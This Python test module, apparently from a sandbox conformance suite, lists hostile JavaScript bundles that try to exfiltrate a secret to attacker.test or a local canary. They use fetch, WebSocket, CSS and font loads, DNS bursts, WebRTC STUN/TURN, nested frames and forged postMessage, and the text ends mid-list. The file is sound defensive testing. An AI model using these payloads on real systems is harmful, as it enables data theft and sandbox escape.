r"""The hostile corpus, as data: every bundle a surface author might ship to get out of
the sandbox, and what "leaked" means for it.

Each bundle's JS runs after ``PRELUDE``, which gives it:

- ``SECRET`` (fresh per test), ``UDP_PORT`` / ``TCP_PORT`` (the canary's) and
  ``attacker(label)``: ``http://<label>.attacker.test/<SECRET>``, which Chromium's
  resolver sends to the canary;
- ``report(data)``: ``LineUpSurface.event("report", data)``, recorded by the shell;
- ``outcome(fn)`` / ``settled(fn)``: what a call did, as a short string
  (``"threw:SecurityError"``, ``"value:null"``, ``"rejected:NotAllowedError"``,
  ``"pending"`` if a promise did not settle within 1.5 s);
- ``onGo(fn)``: run ``fn`` when the shell's first state (``{go: true}``) arrives. A
  bundle that navigates itself reports first, at load, and navigates on go: the report
  is then already on its way to the shell before the frame starts to leave;
- ``IDS``: the mount's own instance and mount ids, read from the bridge's boot script
  (a frame can always forge messages that look like its own);
- ``raw(message)``: ``parent.postMessage(message, "*")``, past the bridge's checks.

For every bundle the suite asserts the same things (see test_conformance.py): no
canary contact (TCP connect or UDP datagram), no request to anything but the shell and
the surface origin, the shell's DOM, title, URL and ``Object.prototype`` unchanged, no
popup, each mount's document fetched exactly once, and a well-behaved sibling surface
still round-trips. ``expect`` adds what the bundle itself must have seen (a subset of
its report), ``rejects`` the exact count of shell rejections per code, ``navigates``
that the frame left its document (and so became untrusted), ``history`` how many entries
the shell's session history gains (measured: a frame's own navigations and pushState
land in the joint session history). ``special`` names an extra check in
test_conformance.py.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

SIBLING_INSTANCE = "inst-sibling"
HOSTILE_INSTANCE = "inst-hostile"
FLOOD_COUNT = 20_000
DNS_BURST = 50

PRELUDE = r"""
const SECRET = "__SECRET__";
const UDP_PORT = __UDP_PORT__;
const TCP_PORT = __TCP_PORT__;
const NS = "lineup.surface.v1";
const attacker = (label) => "http://" + label + ".attacker.test/" + SECRET;
const report = (data) => LineUpSurface.event("report", data);
const describe = (v) =>
  v === null ? "null"
  : typeof v === "object" || typeof v === "function" ? typeof v
  : String(v).slice(0, 80);
const outcome = (fn) => {
  try {
    const v = fn();
    return v === undefined ? "undefined" : "value:" + describe(v);
  } catch (e) {
    return "threw:" + (e && e.name);
  }
};
const settled = (fn, ms = 1500) => new Promise((resolve) => {
  let p;
  try { p = Promise.resolve(fn()); } catch (e) { resolve("threw:" + (e && e.name)); return; }
  const timer = setTimeout(() => resolve("pending"), ms);
  p.then(
    (v) => {
      clearTimeout(timer);
      resolve(v === undefined ? "resolved" : "resolved:" + describe(v));
    },
    (e) => { clearTimeout(timer); resolve("rejected:" + (e && e.name)); },
  );
});
const firstEvent = (target, names, ms = 1500) => new Promise((resolve) => {
  const timer = setTimeout(() => resolve("none"), ms);
  for (const name of names) {
    target.addEventListener(name, () => { clearTimeout(timer); resolve(name); }, { once: true });
  }
});
const onGo = (fn) => LineUpSurface.onState((s) => { if (s.go) fn(s); });
const IDS = JSON.parse(/const BOOT = (\{[^}]*\})/.exec(document.scripts[0].textContent)[1]);
const raw = (message) => parent.postMessage(message, "*");
LineUpSurface.onState((s) => { if (s.ping) LineUpSurface.event("pong", { ping: s.ping }); });
"""


@dataclass(frozen=True)
class Bundle:
    """One hostile surface: its parts, what it must have observed, and what "leaked"
    means for it beyond the checks every bundle gets."""

    name: str
    js: str
    leak: str
    html: str = ""
    css: str = ""
    expect: Mapping[str, Any] = field(default_factory=dict)
    rejects: Mapping[str, int] = field(default_factory=dict)
    navigates: bool = False
    reports: bool = True
    mounts: int = 1
    history: int = 0
    special: str = ""


def _names(count: int = DNS_BURST) -> str:
    return f"Array.from({{ length: {count} }}, (_, n) => SECRET + '-' + n)"


BUNDLES: tuple[Bundle, ...] = (
    # --- the shell's DOM and window ---------------------------------------------------------
    Bundle(
        "parent_dom",
        leak="any read of the shell's DOM, cookie, URL or globals succeeds",
        js="""
report({
  parent_document: outcome(() => parent.document),
  top_document: outcome(() => top.document),
  parent_cookie: outcome(() => parent.document.cookie),
  top_href: outcome(() => top.location.href),
  parent_title: outcome(() => parent.document.title),
  parent_harness: outcome(() => parent.harness),
  parent_local_storage: outcome(() => parent.localStorage),
  frame_element: outcome(() => window.frameElement),
  opener: outcome(() => window.opener),
});
""",
        expect={
            "parent_document": "threw:SecurityError",
            "top_document": "threw:SecurityError",
            "parent_cookie": "threw:SecurityError",
            "top_href": "threw:SecurityError",
            "parent_title": "threw:SecurityError",
            "parent_harness": "threw:SecurityError",
            "parent_local_storage": "threw:SecurityError",
            "frame_element": "value:null",
            "opener": "value:null",
        },
    ),
    Bundle(
        "top_navigation",
        leak="the shell's page navigates (its URL changes)",
        js="""
const at = attacker("top");
const a = document.createElement("a");
a.href = attacker("top-anchor");
a.target = "_top";
document.body.append(a);
report({
  assign: outcome(() => { top.location = at; }),
  href: outcome(() => { top.location.href = at; }),
  replace: outcome(() => top.location.replace(at)),
  parent_assign: outcome(() => { parent.location = at; }),
  open_top: outcome(() => window.open(at, "_top")),
  anchor_top: outcome(() => a.click()),
});
""",
        expect={
            "assign": "threw:SecurityError",
            "href": "threw:SecurityError",
            "replace": "threw:SecurityError",
            "parent_assign": "threw:SecurityError",
            "open_top": "value:null",
        },
    ),
    # --- the frame navigating itself --------------------------------------------------------
    Bundle(
        "self_navigation_href",
        leak="the frame commits a page from another origin, or the request is sent",
        js='report({ ready: true }); onGo(() => { location.href = attacker("self-href"); });',
        navigates=True,
        history=1,
    ),
    Bundle(
        "self_navigation_replace",
        leak="the frame commits a page from another origin, or the request is sent",
        js='report({ ready: true }); onGo(() => location.replace(attacker("self-replace")));',
        navigates=True,
    ),
    Bundle(
        "self_navigation_meta_refresh",
        leak="the frame commits a page from another origin, or the request is sent",
        js="""
report({ ready: true });
onGo(() => {
  const meta = document.createElement("meta");
  meta.httpEquiv = "refresh";
  meta.content = "0;url=" + attacker("meta-refresh");
  document.head.append(meta);
});
""",
        navigates=True,
    ),
    Bundle(
        "self_navigation_anchor_click",
        leak="the frame commits a page from another origin, or the request is sent",
        html='<a id="out" target="_self">out</a>',
        js="""
const a = document.getElementById("out");
a.href = attacker("anchor-self");
report({ ready: true });
onGo(() => a.click());
""",
        navigates=True,
        history=1,
    ),
    Bundle(
        "form_submit_get",
        leak="the form's GET reaches the attacker",
        html='<form id="f" method="get"><input name="secret"></form>',
        js="""
const f = document.getElementById("f");
f.action = attacker("form-get");
f.elements.secret.value = SECRET;
const submitted = outcome(() => f.submit());
report({ submitted });
""",
    ),
    Bundle(
        "form_submit_post",
        leak="the form's POST reaches the attacker",
        html='<form id="f" method="post"><input name="secret"><button id="b">go</button></form>',
        js="""
const f = document.getElementById("f");
f.action = attacker("form-post");
f.elements.secret.value = SECRET;
const clicked = outcome(() => document.getElementById("b").click());
const submitted = outcome(() => f.requestSubmit());
report({ clicked, submitted });
""",
    ),
    Bundle(
        "window_open",
        leak="a popup opens, or its URL is requested",
        html='<form id="f" target="_blank"><input name="s"></form>'
        '<a id="a" target="_blank">blank</a>',
        js="""
const f = document.getElementById("f");
f.action = attacker("popup-form");
const a = document.getElementById("a");
a.href = attacker("popup-anchor");
report({
  open_attacker: outcome(() => window.open(attacker("popup"))),
  open_blank: outcome(() => window.open("about:blank")),
  open_named: outcome(() => window.open(attacker("popup-named"), "lineup")),
  form: outcome(() => f.submit()),
  anchor: outcome(() => a.click()),
});
""",
        expect={
            "open_attacker": "value:null",
            "open_blank": "value:null",
            "open_named": "value:null",
        },
    ),
    # --- network APIs ---------------------------------------------------------------------
    Bundle(
        "fetch",
        leak="any fetch reaches the attacker",
        js="""
Promise.all([
  settled(() => fetch(attacker("fetch"), { mode: "no-cors" })),
  settled(() => fetch(attacker("fetch-post"), { method: "POST", body: SECRET, mode: "no-cors" })),
  settled(() => fetch(attacker("fetch-keepalive"), { mode: "no-cors", keepalive: true })),
]).then(([get, post, keepalive]) => report({ get, post, keepalive }));
""",
        expect={
            "get": "rejected:TypeError",
            "post": "rejected:TypeError",
            "keepalive": "rejected:TypeError",
        },
    ),
    Bundle(
        "xhr",
        leak="the XHR reaches the attacker",
        js="""
const xhr = new XMLHttpRequest();
const opened = outcome(() => xhr.open("POST", attacker("xhr")));
const sent = outcome(() => xhr.send(SECRET));
firstEvent(xhr, ["load", "error", "abort"]).then((ended) => report({ opened, sent, ended }));
""",
        expect={"ended": "error"},
    ),
    Bundle(
        "websocket",
        leak="a WebSocket handshake reaches the attacker",
        js="""
let ws = null;
const made = outcome(() => { ws = new WebSocket("ws://ws.attacker.test/" + SECRET); });
(ws ? firstEvent(ws, ["open", "error", "close"]) : Promise.resolve("none"))
  .then((ended) => report({ made, ended }));
""",
        expect={
            "ended": "error",
        },
    ),
    Bundle(
        "eventsource",
        leak="an EventSource request reaches the attacker",
        js="""
let es = null;
const made = outcome(() => { es = new EventSource(attacker("sse")); });
(es ? firstEvent(es, ["open", "error"]) : Promise.resolve("none"))
  .then((ended) => report({ made, ended }));
""",
        expect={
            "ended": "error",
        },
    ),
    Bundle(
        "send_beacon",
        leak="a beacon reaches the attacker",
        js="""
report({
  beacon: outcome(() => navigator.sendBeacon(attacker("beacon"), SECRET)),
  fetch_later: outcome(() => fetchLater(attacker("fetch-later"))),
});
""",
        expect={
            "fetch_later": "threw:SecurityError",
        },
    ),
    Bundle(
        "webtransport",
        leak="a WebTransport session reaches the attacker",
        js="""
settled(() => {
  const wt = new WebTransport("https://wt.attacker.test:443/" + SECRET);
  return wt.ready;
}).then((ready) => report({ ready, exists: typeof WebTransport }));
""",
        expect={
            "ready": "rejected:WebTransportError",
        },
    ),
    Bundle(
        "dynamic_import_and_script",
        leak="a script load reaches the attacker",
        js="""
const s = document.createElement("script");
s.src = attacker("script");
const loaded = firstEvent(s, ["load", "error"]);
document.body.append(s);
Promise.all([settled(() => import(attacker("import"))), loaded])
  .then(([imported, script]) => report({ imported, script }));
""",
        expect={"imported": "rejected:TypeError", "script": "error"},
    ),
    Bundle(
        "csp_meta_report_uri",
        leak="a CSP violation report reaches the attacker",
        js="""
const meta = document.createElement("meta");
meta.httpEquiv = "Content-Security-Policy";
meta.content = "img-src 'none'; report-uri " + attacker("csp-report");
document.head.append(meta);
const img = new Image();
img.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
firstEvent(img, ["load", "error"]).then((img) => report({ img }));
""",
    ),
    # --- subresources -----------------------------------------------------------------------
    Bundle(
        "img_and_srcset",
        leak="an image request reaches the attacker",
        html='<img id="a" alt=""><img id="b" alt=""><picture><source id="c"><img id="d" alt="">'
        "</picture>",
        js="""
const [a, b, c, d] = ["a", "b", "c", "d"].map((id) => document.getElementById(id));
a.src = attacker("img");
b.srcset = attacker("srcset-1x") + " 1x, " + attacker("srcset-2x") + " 2x";
c.srcset = attacker("source");
d.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
const img = new Image();
img.src = attacker("image-object");
Promise.all([firstEvent(a, ["load", "error"]), firstEvent(img, ["load", "error"])])
  .then(([a, object]) => report({ a, object }));
""",
        expect={"a": "error", "object": "error"},
    ),
    Bundle(
        "svg_image_and_use",
        leak="an SVG subresource reaches the attacker",
        html='<svg width="20" height="20"><image id="i" width="10" height="10"/><use id="u"/>'
        '<filter id="flt"><feImage id="fe"/></filter><rect width="5" height="5" '
        'filter="url(#flt)"/></svg>',
        js="""
document.getElementById("i").setAttribute("href", attacker("svg-image"));
document.getElementById("u").setAttribute("href", attacker("svg-use") + "#x");
document.getElementById("fe").setAttribute("href", attacker("fe-image"));
report({ done: true });
""",
    ),
    Bundle(
        "link_stylesheet_and_preload",
        leak="a <link> load reaches the attacker",
        js="""
const rels = [["stylesheet", "css"], ["preload", "preload"], ["modulepreload", "modulepreload"],
              ["prefetch", "prefetch"], ["icon", "icon"], ["manifest", "manifest"]];
const loads = rels.map(([rel, label]) => {
  const link = document.createElement("link");
  link.rel = rel;
  if (rel === "preload") link.as = "image";
  link.href = attacker("link-" + label);
  document.head.append(link);
  return rel === "stylesheet" ? firstEvent(link, ["load", "error"]) : Promise.resolve("-");
});
Promise.all(loads).then(([stylesheet]) => report({ stylesheet }));
""",
        expect={"stylesheet": "error"},
    ),
    Bundle(
        "link_preconnect",
        leak="a pre-connect opens a TCP connection to the attacker",
        html='<link rel="preconnect" href="http://preconnect-static.attacker.test">',
        js="""
for (const label of ["preconnect-a", "preconnect-b"]) {
  const link = document.createElement("link");
  link.rel = "preconnect";
  link.href = "http://" + SECRET + "-" + label + ".attacker.test";
  document.head.append(link);
}
report({ done: true });
""",
    ),
    Bundle(
        "link_dns_prefetch",
        leak="a DNS prefetch is followed by a connection to the attacker",
        html='<link rel="dns-prefetch" href="//dns-static.attacker.test">',
        js="""
const link = document.createElement("link");
link.rel = "dns-prefetch";
link.href = "//" + SECRET + ".attacker.test";
document.head.append(link);
report({ done: true });
""",
    ),
    Bundle(
        "speculation_rules",
        leak="a speculative prefetch or prerender reaches the attacker",
        js="""
const rules = document.createElement("script");
rules.type = "speculationrules";
rules.textContent = JSON.stringify({
  prefetch: [{ source: "list", urls: [attacker("spec-prefetch")] }],
  prerender: [{ source: "list", urls: [attacker("spec-prerender")] }],
});
document.head.append(rules);
const supports = HTMLScriptElement.supports;
report({ supported: supports ? supports("speculationrules") : null });
""",
    ),
    Bundle(
        "css_url",
        leak="a CSS url() load reaches the attacker",
        html='<div id="bg">background</div><ul><li id="li">item</li></ul>',
        css="""
#bg { background-image: url(http://css-bg.attacker.test/x);
      cursor: url(http://css-cursor.attacker.test/c), auto;
      border-image: url(http://css-border.attacker.test/b) 30;
      mask-image: url(http://css-mask.attacker.test/m); }
#li { list-style-image: image-set(url(http://css-imageset.attacker.test/i) 1x); }
""",
        js="""
document.getElementById("bg").style.backgroundImage = "url(" + attacker("css-inline") + ")";
report({ done: true });
""",
    ),
    Bundle(
        "css_import",
        leak="an @import reaches the attacker",
        css="@import url(http://css-import.attacker.test/static.css);",
        js="""
const style = document.createElement("style");
style.textContent = "@import url(" + attacker("css-import-dynamic") + ");";
document.head.append(style);
report({ done: true });
""",
    ),
    Bundle(
        "css_font_face",
        leak="a web font load reaches the attacker",
        html='<p id="t">font</p>',
        css="""
@font-face { font-family: "leak"; src: url(http://css-font.attacker.test/f.woff2); }
#t { font-family: "leak", sans-serif; }
""",
        js="""
const face = new FontFace("leak2", "url(" + attacker("font-api") + ")");
settled(() => face.load()).then((api) => {
  document.fonts.ready.then(() => report({ api, status: document.fonts.check("12px leak") }));
});
""",
        expect={"api": "rejected:NetworkError"},
    ),
    Bundle(
        "base_href",
        leak="<base> moves relative URLs to the attacker",
        html='<base href="http://base.attacker.test/"><img id="rel" src="relative.png" alt="">'
        '<a id="a" href="relative-link">rel</a>',
        js="""
report({
  base_uri_is_own: document.baseURI === location.href,
  link: document.getElementById("a").href.includes("attacker"),
});
""",
        expect={"base_uri_is_own": True, "link": False},
    ),
    Bundle(
        "object_embed_media",
        leak="a plugin or media load reaches the attacker",
        html='<object id="o" width="10" height="10"></object><embed id="e" width="10" height="10">'
        '<video id="v"></video><audio id="au"></audio>',
        js="""
document.getElementById("o").data = attacker("object");
document.getElementById("e").src = attacker("embed");
const v = document.getElementById("v");
v.src = attacker("video");
document.getElementById("au").src = attacker("audio");
firstEvent(v, ["loadeddata", "error"]).then((video) => report({ video }));
""",
        expect={"video": "error"},
    ),
    Bundle(
        "anchor_ping",
        leak="a hyperlink-auditing ping reaches the attacker",
        html='<a id="a" href="#here">ping</a>',
        js="""
const a = document.getElementById("a");
a.ping = attacker("ping");
a.click();
report({ hash: location.hash });
""",
        expect={"hash": "#here"},
        history=1,
    ),
    # --- storage ----------------------------------------------------------------------------
    Bundle(
        "cookies",
        leak="a cookie can be written or read",
        js="""
report({
  read: outcome(() => document.cookie),
  write: outcome(() => { document.cookie = "secret=" + SECRET; }),
  store: typeof cookieStore === "undefined" ? "absent" : "present",
});
""",
        expect={"read": "threw:SecurityError", "write": "threw:SecurityError"},
    ),
    Bundle(
        "local_and_session_storage",
        leak="Web Storage is usable",
        js="""
report({
  local: outcome(() => localStorage),
  local_set: outcome(() => localStorage.setItem("secret", SECRET)),
  session: outcome(() => sessionStorage),
  session_set: outcome(() => sessionStorage.setItem("secret", SECRET)),
});
""",
        expect={
            "local": "threw:SecurityError",
            "local_set": "threw:SecurityError",
            "session": "threw:SecurityError",
            "session_set": "threw:SecurityError",
        },
    ),
    Bundle(
        "indexeddb",
        leak="IndexedDB is usable",
        js="""
Promise.all([
  settled(() => new Promise((resolve, reject) => {
    const r = indexedDB.open("lineup-secret");
    r.onsuccess = () => resolve("opened");
    r.onerror = () => reject(r.error);
  })),
  settled(() => indexedDB.databases()),
]).then(([open, databases]) => report({ open, databases }));
""",
        expect={"open": "rejected:SecurityError", "databases": "rejected:SecurityError"},
    ),
    Bundle(
        "cache_storage",
        leak="Cache Storage is usable",
        js="""
Promise.all([
  settled(() => caches.open("lineup-secret")),
  settled(() => caches.keys()),
]).then(([open, keys]) => report({ open, keys }));
""",
        expect={
            "open": "threw:SecurityError",
            "keys": "threw:SecurityError",
        },
    ),
    Bundle(
        "storage_does_not_persist_across_mounts",
        leak="anything one mount stores is found by the next",
        mounts=2,
        js="""
const found = [];
const look = (name, fn) => { try { const v = fn(); if (v) found.push(name + "=" + v); } catch {} };
look("cookie", () => document.cookie);
look("local", () => localStorage.getItem("secret"));
look("session", () => sessionStorage.getItem("secret"));
look("name", () => window.name);
look("history", () => JSON.stringify(history.state));
look("hash", () => location.hash);
const idb = settled(() => indexedDB.databases().then((d) => d.map((x) => x.name).join(",")));
const cache = settled(() => caches.keys().then((k) => k.join(",")));
Promise.all([idb, cache]).then(([idb, cache]) => {
  if (idb.startsWith("resolved:") && idb !== "resolved:") found.push("idb=" + idb);
  if (cache.startsWith("resolved:") && cache !== "resolved:") found.push("cache=" + cache);
  const wrote = [];
  const put = (name, fn) => { try { fn(); wrote.push(name); } catch {} };
  put("cookie", () => { document.cookie = "secret=" + SECRET; });
  put("local", () => localStorage.setItem("secret", SECRET));
  put("session", () => sessionStorage.setItem("secret", SECRET));
  put("name", () => { window.name = SECRET; });
  put("history", () => history.replaceState({ secret: SECRET }, ""));
  report({ found, wrote });
});
""",
        expect={"found": ["history=null"]},
    ),
    Bundle(
        "document_domain",
        leak="document.domain can be relaxed",
        js="""
report({
  read: outcome(() => document.domain),
  set_localhost: outcome(() => { document.domain = "localhost"; }),
  set_own: outcome(() => { document.domain = document.domain; }),
});
""",
        expect={
            "set_localhost": "threw:SecurityError",
            "set_own": "threw:SecurityError",
        },
    ),
    # --- nested frames ----------------------------------------------------------------------
    Bundle(
        "nested_srcdoc",
        leak="a srcdoc child reaches the network, the shell, or the shell's message channel",
        js=r"""
const child = document.createElement("iframe");
child.srcdoc = "\x3cscript>" + `
  const out = {};
  try { out.top_document = typeof top.document; } catch (e) { out.top_document = e.name; }
  fetch("${attacker("srcdoc-fetch")}", { mode: "no-cors" }).then(
    () => { out.fetch = "ok"; done(); }, (e) => { out.fetch = e.name; done(); });
  new Image().src = "${attacker("srcdoc-img")}";
  top.postMessage({ namespace: "${NS}", type: "event", instance_id: "${IDS.instance_id}",
    mount_id: "${IDS.mount_id}", event: "from_child", data: {} }, "*");
  function done() { parent.postMessage({ child: out }, "*"); }
` + "\x3c/scr" + "ipt>";
const heard = new Promise((resolve) => {
  setTimeout(() => resolve(null), 1500);
  addEventListener("message", (e) => { if (e.data && e.data.child) resolve(e.data.child); });
});
document.body.append(child);
heard.then((child) => report({ child }));
""",
        expect={"child": {"top_document": "SecurityError", "fetch": "TypeError"}},
    ),
    Bundle(
        "nested_about_blank",
        leak="an about:blank child's pristine APIs reach the network",
        js="""
const child = document.createElement("iframe");
document.body.append(child);
const w = child.contentWindow;
// The child inherits the sandbox, so it gets an opaque origin of its own: its
// pristine constructors are out of reach.
report({
  fetch: outcome(() => w.fetch(attacker("blank-fetch"), { mode: "no-cors" })),
  xhr: outcome(() => new w.XMLHttpRequest()),
  image: outcome(() => { new w.Image().src = attacker("blank-img"); }),
  rtc: outcome(() => new w.RTCPeerConnection()),
  document: outcome(() => w.document),
});
""",
        expect={
            "fetch": "threw:SecurityError",
            "xhr": "threw:SecurityError",
            "image": "threw:SecurityError",
            "rtc": "threw:SecurityError",
            "document": "threw:SecurityError",
        },
    ),
    Bundle(
        "nested_data_blob_remote",
        leak="a data:, blob: or remote child frame loads and runs",
        js=r"""
const page = "\x3cscript>parent.postMessage({ alive: location.protocol }, '*')\x3c/scr" + "ipt>";
const alive = [];
addEventListener("message", (e) => { if (e.data && e.data.alive) alive.push(e.data.alive); });
for (const src of [
  "data:text/html," + encodeURIComponent(page),
  URL.createObjectURL(new Blob([page], { type: "text/html" })),
  attacker("child-frame"),
]) {
  const child = document.createElement("iframe");
  child.src = src;
  document.body.append(child);
}
setTimeout(() => report({ alive }), 1000);
""",
        expect={"alive": []},
    ),
    Bundle(
        "nested_srcdoc_rtc_kills_renderer",
        leak="the child's own RTCPeerConnection sends STUN, or the host dies with the renderer",
        special="renderer_killed",
        js=r"""
report({ ready: true });
onGo(() => {
  const child = document.createElement("iframe");
  child.srcdoc = "\x3cscript>" + `
    const pc = new RTCPeerConnection({ iceServers: [
      { urls: "stun:127.0.0.1:${UDP_PORT}" },
      { urls: "turn:127.0.0.1:${TCP_PORT}?transport=tcp", username: "${SECRET}", credential: "x" },
    ] });
    pc.createDataChannel("x");
    pc.createOffer().then((o) => pc.setLocalDescription(o));
  ` + "\x3c/scr" + "ipt>";
  document.body.append(child);
});
""",
    ),
    # --- workers ----------------------------------------------------------------------------
    Bundle(
        "workers_from_blob",
        leak="a worker starts, or its fetch reaches the attacker",
        js="""
const code = `fetch("${attacker("worker-fetch")}", { mode: "no-cors" })
  .then(() => postMessage("fetched"), () => postMessage("refused"));`;
const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
const heard = [];
let worker = null;
const dedicated = outcome(() => {
  worker = new Worker(url);
  worker.onmessage = (e) => heard.push(e.data);
});
const shared = outcome(() => new SharedWorker(url));
const data_url = outcome(() => new Worker("data:text/javascript," + encodeURIComponent(code)));
(worker ? firstEvent(worker, ["message", "error"]) : Promise.resolve("none"))
  .then((first) => report({ dedicated, shared, data_url, first, heard }));
""",
        expect={
            "shared": "threw:SecurityError",
            "first": "error",
            "heard": [],
        },
    ),
    Bundle(
        "service_worker",
        leak="a service worker registers",
        js="""
settled(() => navigator.serviceWorker.register("/sw.js"))
  .then((register) => report({ access: outcome(() => navigator.serviceWorker), register }));
""",
        expect={
            "access": "threw:SecurityError",
            "register": "threw:SecurityError",
        },
    ),
    # --- WebRTC -----------------------------------------------------------------------------
    Bundle(
        "webrtc_stun_udp_ufrag",
        leak="a STUN datagram (carrying the secret as ICE ufrag) reaches the canary",
        js="""
const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + UDP_PORT }] });
let candidates = 0;
pc.onicecandidate = (e) => { if (e.candidate) candidates += 1; };
pc.createDataChannel("x");
pc.onicegatheringstatechange = () => {
  if (pc.iceGatheringState === "complete") report({ state: "complete" });
};
pc.createOffer().then((offer) => {
  const sdp = offer.sdp.replace(/a=ice-ufrag:.*/g, "a=ice-ufrag:" + SECRET);
  return pc.setLocalDescription({ type: "offer", sdp }).catch(() => pc.setLocalDescription(offer));
}).catch((e) => report({ error: e.name }));
""",
        expect={"state": "complete"},
    ),
    Bundle(
        "webrtc_turn_tcp_and_udp",
        leak="a TURN allocation (carrying the secret as username) reaches the canary",
        js="""
const pc = new RTCPeerConnection({ iceServers: [
  { urls: "turn:127.0.0.1:" + TCP_PORT + "?transport=tcp", username: SECRET, credential: "x" },
  { urls: "turn:127.0.0.1:" + UDP_PORT + "?transport=udp", username: SECRET, credential: "x" },
  { urls: "turn:turn.attacker.test:3478?transport=tcp", username: SECRET, credential: "x" },
], iceTransportPolicy: "relay" });
pc.createDataChannel("x");
pc.onicegatheringstatechange = () => {
  if (pc.iceGatheringState === "complete") report({ state: "complete" });
};
pc.createOffer().then((o) => pc.setLocalDescription(o)).catch((e) => report({ error: e.name }));
""",
        expect={"state": "complete"},
    ),
    Bundle(
        "webrtc_remote_candidate",
        leak="ICE connectivity checks to a remote candidate reach the canary",
        js="""
const a = new RTCPeerConnection();
const b = new RTCPeerConnection();
a.createDataChannel("x");
(async () => {
  await a.setLocalDescription(await a.createOffer());
  await b.setRemoteDescription(a.localDescription);
  await b.setLocalDescription(await b.createAnswer());
  await a.setRemoteDescription(b.localDescription);
  const added = await settled(() => a.addIceCandidate({
    candidate: "candidate:1 1 udp 2122260223 127.0.0.1 " + UDP_PORT + " typ host",
    sdpMid: "0",
  }));
  report({ added });
})().catch((e) => report({ error: e.name }));
""",
    ),
    # --- DNS exfiltration bursts ----------------------------------------------------------
    Bundle(
        "dns_burst_location",
        leak=f"any of {DNS_BURST} navigations to <secret-n>.attacker.test is resolved and"
        " pre-connected",
        js=f"""
report({{ ready: true }});
onGo(() => {{
  for (const name of {_names()}) location.href = "http://" + name + ".attacker.test/";
}});
""",
        navigates=True,
        history=1,
    ),
    Bundle(
        "dns_burst_anchor_clicks",
        leak=f"any of {DNS_BURST} link clicks to <secret-n>.attacker.test is pre-connected",
        js=f"""
report({{ ready: true }});
onGo(() => {{
  for (const name of {_names()}) {{
    const a = document.createElement("a");
    a.href = "http://" + name + ".attacker.test/";
    document.body.append(a);
    a.click();
  }}
}});
""",
        navigates=True,
        history=1,
    ),
    Bundle(
        "dns_burst_window_open",
        leak=f"any of {DNS_BURST} window.open calls to <secret-n>.attacker.test opens or connects",
        js=f"""
const opened = {_names()}.map((name) => window.open("http://" + name + ".attacker.test/"))
  .filter((w) => w !== null).length;
report({{ opened }});
""",
        expect={"opened": 0},
    ),
    Bundle(
        "dns_burst_prefetch_and_img",
        leak=f"any of {DNS_BURST}x3 prefetch/preconnect/img loads of <secret-n>.attacker.test"
        " connects",
        js=f"""
for (const name of {_names()}) {{
  for (const rel of ["prefetch", "preconnect", "dns-prefetch"]) {{
    const link = document.createElement("link");
    link.rel = rel;
    link.href = "http://" + rel + "-" + name + ".attacker.test/";
    document.head.append(link);
  }}
  new Image().src = "http://img-" + name + ".attacker.test/";
}}
report({{ done: true }});
""",
    ),
    # --- the shell's message channel ------------------------------------------------------
    Bundle(
        "postmessage_flood_events",
        leak="the flood passes the rate limit or starves the sibling",
        special="flood",
        js=f"""
report({{ count: {FLOOD_COUNT} }});
for (let i = 0; i < {FLOOD_COUNT}; i++) LineUpSurface.event("tick", {{ i }});
""",
    ),
    Bundle(
        "postmessage_flood_garbage",
        leak="the garbage flood reaches validation unthrottled or starves the sibling",
        special="flood",
        js=f"""
report({{ count: {FLOOD_COUNT} }});
const junk = {{ namespace: NS, type: "event", blob: "x".repeat(1000) }};
for (let i = 0; i < {FLOOD_COUNT}; i++) raw(i % 2 ? junk : i);
""",
    ),
    Bundle(
        "forged_other_instance",
        leak="a message forged for the sibling's instance is accepted",
        js="""
const other = { namespace: NS, instance_id: "inst-sibling", mount_id: IDS.mount_id };
raw({ ...other, type: "event", event: "echo", data: { n: -1, forged: true } });
raw({ ...other, type: "resize", height: 999 });
raw({ ...other, type: "ready" });
raw({ ...other, mount_id: "0".repeat(24), type: "event", event: "echo", data: { n: -1 } });
raw({ ...other, instance_id: IDS.instance_id, mount_id: "0".repeat(24), type: "event",
      event: "x", data: {} });
report({ sent: 5 });
""",
        rejects={"instance_mismatch": 4, "mount_mismatch": 1},
    ),
    Bundle(
        "forged_other_namespace",
        leak="a message in another namespace (or type) is accepted",
        js="""
const own = { instance_id: IDS.instance_id, mount_id: IDS.mount_id };
raw({ ...own, namespace: "lineup.surface.v2", type: "event", event: "x", data: {} });
raw({ ...own, namespace: "lineup.app.v1", type: "request", id: "r1", method: "state.set",
      params: { state: { secret: SECRET } } });
raw({ ...own, namespace: "lineup.host.v1", type: "event", event: "x", data: {} });
raw({ ...own, namespace: NS, type: "state", state: { forged: true } });
raw({ ...own, namespace: NS, type: "tool.call", name: "x" });
raw({ ...own, namespace: NS, type: "event", event: "x", data: {}, extra: 1 });
raw({ ...own, namespace: NS, type: "ready" });
raw({ ...own, type: "event", event: "x", data: {} });
report({ sent: 8 });
""",
        rejects={"namespace": 4, "unknown_type": 2, "malformed": 1, "duplicate_ready": 1},
    ),
    Bundle(
        "fake_state_to_self",
        leak="the frame's own forged host message reaches its onState",
        js="""
const states = [];
LineUpSurface.onState((s) => states.push(Object.keys(s).sort().join(",")));
const fake = { namespace: NS, type: "state", instance_id: IDS.instance_id,
               state: { forged: true } };
window.postMessage(fake, "*");
window.dispatchEvent(new MessageEvent("message", { data: fake, source: window }));
window.dispatchEvent(new MessageEvent("message", { data: fake }));
onGo(() => setTimeout(() => report({ states }), 200));
""",
        expect={"states": ["go"]},
    ),
    Bundle(
        "fake_state_to_sibling",
        leak="a state posted into the sibling's frame reaches its onState",
        js="""
const frames = parent.frames.length;
const forged = { n: -1, forged: true };
for (let i = 0; i < frames; i++) {
  for (const instance_id of ["inst-sibling", IDS.instance_id]) {
    parent.frames[i].postMessage({ namespace: NS, type: "state", instance_id, state: forged }, "*");
  }
}
report({ frames });
""",
        expect={"frames": 2},
    ),
    Bundle(
        "oversized_and_non_object_data",
        leak="data that is not a plain JSON object under 16 KiB is accepted",
        js="""
const base = { namespace: NS, type: "event", instance_id: IDS.instance_id,
               mount_id: IDS.mount_id, event: "bad" };
const cyclic = {}; cyclic.self = cyclic;
let deep = {}; for (let i = 0; i < 40; i++) deep = { d: deep };
const bad = [{ s: "x".repeat(16 * 1024) }, [1, 2], "text", 5, null, true, undefined,
             new Map(), new Date(0), { when: new Date(0) }, cyclic, deep, { n: NaN },
